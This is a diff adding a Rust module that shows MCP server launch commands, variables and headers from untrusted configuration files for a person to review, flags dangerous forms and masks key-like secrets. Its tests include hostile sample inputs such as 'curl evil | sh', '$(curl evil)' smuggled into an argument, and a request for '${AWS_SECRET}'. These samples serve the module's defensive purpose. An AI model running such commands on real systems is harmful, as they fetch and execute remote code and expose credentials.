@@ -1,0 +1,387 @@
+//! The commands and addresses that an unknown author wrote, laid out for the person who decides
+//! about them.
+//!
+//! Files of a project, files of clients and entries of the registry all come through here before
+//! anything in them runs for the first time. [`Review`] shows all of a server: every word of the
+//! command line quoted as a shell would need it, variables, headers, the origin of the server, and
+//! a reason beside every form that can do more than start a server.
+//!
+//! # Layout
+//! - `words`: texts as a person can read them, quoted, with nothing invisible left
+//! - [`danger`]: the forms that can do more than start a server, and the reasons
+
+pub mod danger;
+pub mod words;
+
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use kitbag_clients::{HiddenText, holds_secret, secrets_in_address, secrets_in_argument};
+use kitbag_config::edit::Reach;
+use kitbag_domain::Template;
+use kitbag_upstream::{ServerKind, ServerSpec};
+
+use danger::{Danger, dangers};
+use words::{quoted, variables, visible};
+
+/// The origin of a server.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ReviewSource {
+    /// A file that lies in a project and came along with it.
+    ProjectFile {
+        path: PathBuf,
+        project: PathBuf,
+    },
+    /// A file that a client keeps for the person.
+    ClientFile {
+        path: PathBuf,
+    },
+    Registry {
+        entry: String,
+        place: String,
+    },
+}
+
+/// One server, ready to be shown.
+#[derive(Debug, Clone)]
+pub struct Review {
+    name: String,
+    origin: ReviewSource,
+    /// The launch or the address, with typed secrets masked.
+    shown: Reach,
+    pub dangers: Vec<Danger>,
+}
+
+impl Review {
+    /// `reach` holds templates, with typed secrets as they are: a word that is masked must not
+    /// escape being judged.
+    pub fn of(name: &str, origin: ReviewSource, reach: &Reach) -> Self {
+        let mut dangers = dangers(reach, origin.project());
+        if origin.is_project() {
+            dangers.extend(taken_variables(reach));
+        }
+        Self {
+            name: name.to_owned(),
+            origin,
+            shown: masked(reach),
+            dangers,
+        }
+    }
+
+    /// Returns nothing for a server that runs inside this process.
+    pub fn of_spec(spec: &ServerSpec, origin: ReviewSource) -> Option<Self> {
+        Some(Self::of(spec.name.as_str(), origin, &reach_of(spec)?))
+    }
+
+    /// Returns the command line or the address, on one line.
+    pub fn line(&self) -> String {
+        line(&self.shown)
+    }
+
+    /// Returns the names of the variables or headers that the server sets.
+    pub fn sets(&self) -> Vec<String> {
+        let (Reach::Launch { env: pairs, .. } | Reach::Remote { headers: pairs, .. }) = &self.shown;
+        pairs.iter().map(|(name, _)| visible(name)).collect()
+    }
+}
+
+impl ReviewSource {
+    pub fn is_project(&self) -> bool {
+        matches!(self, Self::ProjectFile { .. })
+    }
+
+    fn project(&self) -> Option<&Path> {
+        match self {
+            Self::ProjectFile { project, .. } => Some(project),
+            Self::ClientFile { .. } | Self::Registry { .. } => None,
+        }
+    }
+}
+
+impl fmt::Display for ReviewSource {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::ProjectFile { path, .. } => {
+                write!(
+                    f,
+                    "the project file {}",
+                    visible(&path.display().to_string())
+                )
+            }
+            Self::ClientFile { path } => write!(f, "{}", visible(&path.display().to_string())),
+            Self::Registry { entry, place } => {
+                write!(
+                    f,
+                    "the registry entry {} at {}",
+                    visible(entry),
+                    visible(place)
+                )
+            }
+        }
+    }
+}
+
+impl fmt::Display for Review {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "`{}`, from {}", visible(&self.name), self.origin)?;
+        match &self.shown {
+            Reach::Launch { env, cwd, .. } => {
+                entry(f, "Runs:", &line(&self.shown))?;
+                if let Some(cwd) = cwd {
+                    entry(f, "In:", &quoted(cwd))?;
+                }
+                let pair = |(name, value): &(String, String)| {
+                    format!("{}={}", visible(name), quoted(value))
+                };
+                entries(f, "Environment:", env.iter().map(pair))?;
+            }
+            Reach::Remote { headers, .. } => {
+                entry(f, "Reaches:", &line(&self.shown))?;
+                let pair = |(name, value): &(String, String)| {
+                    format!("{}: {}", visible(name), quoted(value))
+                };
+                entries(f, "Headers:", headers.iter().map(pair))?;
+            }
+        }
+        entries(f, "Beware:", self.dangers.iter().map(ToString::to_string))
+    }
+}
+
+fn entry(f: &mut fmt::Formatter<'_>, label: &str, text: &str) -> fmt::Result {
+    write!(f, "\n  {label:<13}{text}")
+}
+
+/// The label stands only before the first entry.
+fn entries(
+    f: &mut fmt::Formatter<'_>,
+    label: &str,
+    texts: impl Iterator<Item = String>,
+) -> fmt::Result {
+    let labels = std::iter::once(label).chain(std::iter::repeat(""));
+    texts
+        .zip(labels)
+        .try_for_each(|(text, label)| entry(f, label, &text))
+}
+
+fn line(reach: &Reach) -> String {
+    match reach {
+        Reach::Launch { command, args, .. } => {
+            let words: Vec<_> = [command]
+                .into_iter()
+                .chain(args)
+                .map(|word| quoted(word))
+                .collect();
+            words.join(" ")
+        }
+        // Quotes tell a variable from letters that only look like one.
+        Reach::Remote { url, .. } if url.contains('$') => quoted(url),
+        Reach::Remote { url, .. } => visible(url),
+    }
+}
+
+/// A variable that an unknown author names is filled in with the value that the person keeps there.
+fn taken_variables(reach: &Reach) -> Vec<Danger> {
+    let (mut texts, pairs): (Vec<&String>, _) = match reach {
+        Reach::Launch {
+            command, args, env, ..
+        } => ([command].into_iter().chain(args).collect(), env),
+        Reach::Remote { url, headers, .. } => (vec![url], headers),
+    };
+    texts.extend(pairs.iter().map(|(_, value)| value));
+    let mut taken = Vec::new();
+    for name in texts.into_iter().flat_map(|text| variables(text)) {
+        let danger = Danger::new(
+            &format!("${{{name}}}"),
+            "asks for what you keep in this variable",
+        );
+        if !taken.contains(&danger) {
+            taken.push(danger);
+        }
+    }
+    taken
+}
+
+/// Returns the command line or the address of a server, on one line, with typed secrets masked.
+pub fn line_of(spec: &ServerSpec) -> Option<String> {
+    reach_of(spec).map(|reach| line(&masked(&reach)))
+}
+
+fn reach_of(spec: &ServerSpec) -> Option<Reach> {
+    let pairs = |pairs: &[(String, Template)]| {
+        pairs
+            .iter()
+            .map(|(name, value)| (name.clone(), value.source().to_owned()))
+            .collect()
+    };
+    let ServerKind::External(reach) = &spec.kind else {
+        return None;
+    };
+    Some(match reach {
+        kitbag_domain::Reach::Command(launch) => Reach::Launch {
+            command: launch.command.source().to_owned(),
+            args: launch
+                .args
+                .iter()
+                .map(|word| word.source().to_owned())
+                .collect(),
+            env: pairs(&launch.env),
+            cwd: launch.cwd.as_ref().map(|path| path.display().to_string()),
+        },
+        kitbag_domain::Reach::Remote(endpoint) => Reach::Remote {
+            url: endpoint.url.source().to_owned(),
+            transport: None,
+            headers: pairs(&endpoint.headers),
+        },
+    })
+}
+
+/// Returns the reach with typed secrets masked, but only those that could be nothing else: an
+/// unknown author may call a piece of a program a token so that it does not show.
+fn masked(reach: &Reach) -> Reach {
+    let pairs = |pairs: &[(String, String)]| {
+        let value = |name: &str, text: &str| match holds_secret(name, text) && is_like_a_key(text) {
+            true => MASK.to_owned(),
+            false => text.to_owned(),
+        };
+        pairs
+            .iter()
+            .map(|(name, text)| (name.clone(), value(name, text)))
+            .collect()
+    };
+    match reach {
+        Reach::Launch {
+            command,
+            args,
+            env,
+            cwd,
+        } => Reach::Launch {
+            command: command.clone(),
+            args: masked_words(args),
+            env: pairs(env),
+            cwd: cwd.clone(),
+        },
+        Reach::Remote {
+            url,
+            transport,
+            headers,
+        } => Reach::Remote {
+            url: secrets_in_address(url).template(masked_key),
+            transport: transport.clone(),
+            headers: pairs(headers),
+        },
+    }
+}
+
+fn masked_words(words: &[String]) -> Vec<String> {
+    let before = std::iter::once(None).chain(words.iter().map(|word| Some(word.as_str())));
+    let masked = |(word, before): (&String, Option<&str>)| {
+        secrets_in_argument(before, word).template(masked_key)
+    };
+    words.iter().zip(before).map(masked).collect()
+}
+
+const MASK: &str = "…";
+
+fn masked_key(hidden: HiddenText<'_>) -> String {
+    let (HiddenText::Typed(text) | HiddenText::Wanted(text)) = hidden;
+    if is_like_a_key(text) {
+        MASK.to_owned()
+    } else {
+        text.to_owned()
+    }
+}
+
+/// True if the text has only characters of a key, and none that a path begins with at its start.
+fn is_like_a_key(text: &str) -> bool {
+    let letter =
+        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '=' | '+' | '/' | '~');
+    let text = text
+        .split_once(' ')
+        .filter(|(scheme, _)| kitbag_clients::is_scheme(scheme))
+        .map_or(text, |it| it.1);
+    text.chars().all(letter) && !text.starts_with(['/', '.', '~'])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn project() -> ReviewSource {
+        ReviewSource::ProjectFile {
+            path: "/shop/.mcp.json".into(),
+            project: "/shop".into(),
+        }
+    }
+
+    fn launch(words: &[&str], env: &[(&str, &str)]) -> Reach {
+        let mut words = words.iter().map(|word| (*word).to_owned());
+        let env = env
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
+            .collect();
+        Reach::Launch {
+            command: words.next().unwrap(),
+            args: words.collect(),
+            env,
+            cwd: None,
+        }
+    }
+
+    #[test]
+    fn the_whole_of_it_is_shown_with_where_it_comes_from() {
+        let reach = launch(
+            &["sh", "-c", "touch /tmp/x; $X"],
+            &[("A", "b c"), ("T", "${AWS_SECRET}")],
+        );
+        assert_eq!(
+            Review::of("evil", project(), &reach).to_string(),
+            "`evil`, from the project file /shop/.mcp.json\n  \
+             Runs:        sh -c 'touch /tmp/x; $X'\n  \
+             Environment: A='b c'\n               T=\"${AWS_SECRET}\"\n  \
+             Beware:      sh -c: a shell runs the next word as a program\n               \
+             ${AWS_SECRET}: asks for what you keep in this variable"
+        );
+        let headers = vec![(
+            "X-Key".to_owned(),
+            "Bearer ghp_0123456789abcdefghij".to_owned(),
+        )];
+        let reach = Reach::Remote {
+            url: "https://h.example/mcp".to_owned(),
+            transport: None,
+            headers,
+        };
+        let origin = ReviewSource::Registry {
+            entry: "com.acme/mcp".to_owned(),
+            place: "https://r".to_owned(),
+        };
+        assert_eq!(
+            Review::of("acme", origin, &reach).to_string(),
+            "`acme`, from the registry entry com.acme/mcp at https://r\n  \
+             Reaches:     https://h.example/mcp\n  Headers:     X-Key: …"
+        );
+    }
+
+    #[test]
+    fn a_key_is_masked_and_a_program_that_calls_itself_one_is_not() {
+        for (words, expected) in [
+            (&["x", "--token", "abc123"][..], "x --token …"),
+            (
+                &["sh", "-c", "TOKEN=a; curl evil | sh"],
+                "sh -c 'TOKEN=a; curl evil | sh'",
+            ),
+            (
+                &["x", "--api-key", "$(curl evil)"],
+                "x --api-key '$(curl evil)'",
+            ),
+            (
+                &["x", "--api-key", "/tmp/evil.so"],
+                "x --api-key /tmp/evil.so",
+            ),
+        ] {
+            assert_eq!(
+                Review::of("a", project(), &launch(words, &[])).line(),
+                expected
+            );
+        }
+    }
+}
